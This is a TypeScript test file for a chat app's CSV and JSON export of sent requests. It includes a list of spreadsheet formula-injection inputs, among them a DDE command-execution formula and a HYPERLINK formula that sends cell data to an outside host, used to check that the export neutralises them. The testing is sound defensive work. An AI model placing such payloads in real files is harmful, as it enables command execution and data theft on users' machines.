import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { parse } from 'csv-parse/sync';
import { recordAsCsv, recordAsJson, sentRequests } from '../../../src/chat/record/sentRequests.ts';
import type { Attachment, Picture } from '../../../src/protocol.ts';
import type { Entry } from '../../../src/chat/entry.ts';
import { historyFolder } from '../../support/history/folder.ts';

const head = [
  ...['time', 'conversation', 'connection', 'model', 'modelId', 'characters', 'messageCharacters', 'earlierMessages'],
  ...['command', 'attachments', 'attachmentList'],
];
const file: Attachment = {
  ...{ id: 'f', kind: 'code', name: 'src/a.ts', language: 'typescript', text: 'CONTENT of a file' },
  ...{ firstLine: 3, lastLine: 9 },
};
const picture: Picture = { hash: 'ab'.repeat(32), type: 'image/png', width: 1, height: 1, bytes: 70 };
const screen: Attachment = { id: 'p', kind: 'picture', name: 'screen.png', language: '', text: 'CONTENT', picture };
const hashOfFile = createHash('sha256').update(file.text).digest('hex');

/** A conversation in which one question was asked, twice. */
function asked(at: number, model: string, place: string, attachments: Attachment[] = []): Entry[] {
  const message = { id: 'q', role: 'user', text: 'CONTENT?', attachments } as const;
  return [
    { type: 'message', parent: null, message: { ...message, attachments }, at },
    { type: 'reply', parent: 'q', reply: { id: 'r', model, modelId: model }, at, place },
    { type: 'sent', id: 'r', characters: 99, at },
    { type: 'sent', id: 'r', characters: 99, at: at + 2000 },
    { type: 'text', id: 'r', text: 'CONTENT of a reply' },
    { type: 'end', reply: { id: 'r', role: 'assistant', model, outcome: 'done' }, at: at + 3000 },
    { type: 'delete', id: 'q' },
  ];
}

describe('The record of requests that left this machine (V229)', () => {
  const { window } = historyFolder();

  /** The conversations of the folder, as a new window reads them. */
  async function recorded() {
    const all = await Array.fromAsync(window().history.all());
    return all.map(({ id, entries = [] }) => ({ id, requests: sentRequests(entries) }));
  }
  const rowsOf = (csv: string, options = {}): string[][] => parse(csv, { bom: true, ...options });

  it('has a row for each request of all conversations, sorted by time, also after a restart and for deleted messages', async () => {
    const { history } = window();
    const later = await history.add(asked(5000, 'Atlas', 'b.example · other'));
    const first = await history.add(asked(1000, 'Assistant', 'a.example · primary', [file, screen]));
    const [names, ...rows] = rowsOf(recordAsCsv(await recorded()));
    assert.deepEqual(names, head);
    const list = [
      `src/a.ts:3-9 (code), 17 characters, SHA-256 ${hashOfFile}`,
      `screen.png (picture), 70 bytes, SHA-256 ${picture.hash}`,
    ].join('\n');
    const [one, other] = [
      [first, 'a.example · primary', 'Assistant', 'Assistant', '99', '8', '0', '', '2', list],
      [later, 'b.example · other', 'Atlas', 'Atlas', '99', '8', '0', '', '0', ''],
    ];
    assert.deepEqual(rows, [
      ['1970-01-01T00:00:01.000Z', ...one],
      ['1970-01-01T00:00:03.000Z', ...one],
      ['1970-01-01T00:00:05.000Z', ...other],
      ['1970-01-01T00:00:07.000Z', ...other],
    ]);
  });

  it('names the only line of an attachment', async () => {
    const { history } = window();
    const { lastLine, ...line } = file;
    await history.add(asked(1000, 'Atlas', 'a.example', [line]));
    const [, row] = rowsOf(recordAsCsv(await recorded()));
    assert.match(row?.at(-1) ?? '', /^src\/a\.ts:3-3 \(code\)/);
  });

  it('contains the same data as JSON', async () => {
    const { history } = window();
    const id = await history.add(asked(1000, 'Atlas', 'a.example', [file, screen]));
    const record = JSON.parse(recordAsJson(await recorded(), [], 0)) as { requests: object[] };
    const { requests, ...rest } = record;
    assert.deepEqual(rest, { kind: 'realm-chat-record', v: 1, made: '1970-01-01T00:00:00.000Z' });
    assert.equal(requests.length, 2);
    assert.deepEqual(requests[0], {
      ...{ time: '1970-01-01T00:00:01.000Z', conversation: id, connection: 'a.example' },
      ...{ model: 'Atlas', modelId: 'Atlas', characters: 99, messageCharacters: 8, earlierMessages: 0 },
      attachments: [
        { name: 'src/a.ts', kind: 'code', firstLine: 3, lastLine: 9, characters: 17, sha256: hashOfFile },
        { name: 'screen.png', kind: 'picture', bytes: 70, sha256: picture.hash },
      ],
    });
  });

  it('lists what was looked up as attachments of the request that sent it', () => {
    const step = { number: 1, round: 1, at: 0, tool: 'read_file', input: '{}', title: 'Searched for it' };
    const lines = { path: 'src/b.ts', firstLine: 2, lastLine: 5 };
    const [question, started, sent] = asked(1000, 'Atlas', 'a.example', [file]);
    const looked = [{ ...step, ...lines, result: 'CONTENT', pictures: [{ ...screen, picture }] }, step];
    const steps = looked.map((step): Entry => ({ type: 'step', id: 'r', step }));
    const requests = sentRequests([question, started, sent, ...steps, sent].filter((entry) => entry !== undefined));
    const [, ...rows] = rowsOf(recordAsCsv([{ id: '1', requests }]));
    const listed = rows.map((row) => row.at(-1)?.replaceAll(/, SHA-256 \w+/g, ''));
    const ofFile = 'src/a.ts:3-9 (code), 17 characters';
    assert.deepEqual(listed, [
      ofFile,
      [
        ofFile,
        'src/b.ts:2-5 (lookedUp), 7 characters',
        'screen.png (picture), 70 bytes',
        'Searched for it (lookedUp), 0 characters',
      ].join('\n'),
    ]);
  });

  it('contains no content of messages, attachments or replies', async () => {
    const { history } = window();
    await history.add(asked(1000, 'Atlas', 'a.example', [file, screen]));
    for (const text of [recordAsCsv(await recorded()), recordAsJson(await recorded())])
      assert.doesNotMatch(text, /CONTENT/);
  });

  it('is a table without rows if nothing was sent', async () => {
    assert.deepEqual(rowsOf(recordAsCsv(await recorded())), [head]);
  });

  const hostile = [
    ...["=cmd|' /C calc'!A0", '+1+cmd', '-2+3', '@SUM(1+1)*cmd', '=HYPERLINK("https://b.example?"&A1)', '＝1+1'],
    ...[
      '\t=1+1',
      ' =1+1',
      '\u200b=1+1',
      '\ufeff=1+1',
      '\r\n=1+1',
      'a\n=1+1',
      'a\r=1+1',
      'a";=1+1;"',
      'a",=1+1,"',
      'a;\t=1+1',
    ],
    ...['"', '""', ',', '"\r\n"2026"', 'a"b,c;d', "'", '\u202egnp'],
  ];
  for (const name of hostile)
    it(`is a table without formulas, in which every row has all columns: ${JSON.stringify(name)}`, () => {
      const attachments = [{ ...file, name }, screen];
      const csv = recordAsCsv([{ id: '1', requests: sentRequests(asked(1000, name, name, attachments)) }]);
      const [, ...rows] = rowsOf(csv);
      assert.deepEqual(
        rows.map(({ length }) => length),
        [head.length, head.length],
      );
      assert.doesNotMatch(rows[0]?.slice(0, -1).join('') ?? '', /[\r\n]/);
      assert.equal(rows[0]?.at(-1)?.split('\n').length, 2, 'each attachment has its line');
      // In some languages, spreadsheets separate cells with a semicolon or a tab.
      const cells = [',', ';', '\t'].flatMap((delimiter) =>
        rowsOf(csv, { delimiter, relax_quotes: true, relax_column_count: true }).flat(),
      );
      for (const cell of cells)
        for (const line of cell.split(/[\r\n]/)) assert.doesNotMatch(line, /^["\s\p{C}]*[=+\-@＝＋－＠]/u);
      assert.doesNotMatch(csv.slice(1), /[\p{Cf}\t]/u);
    });
});
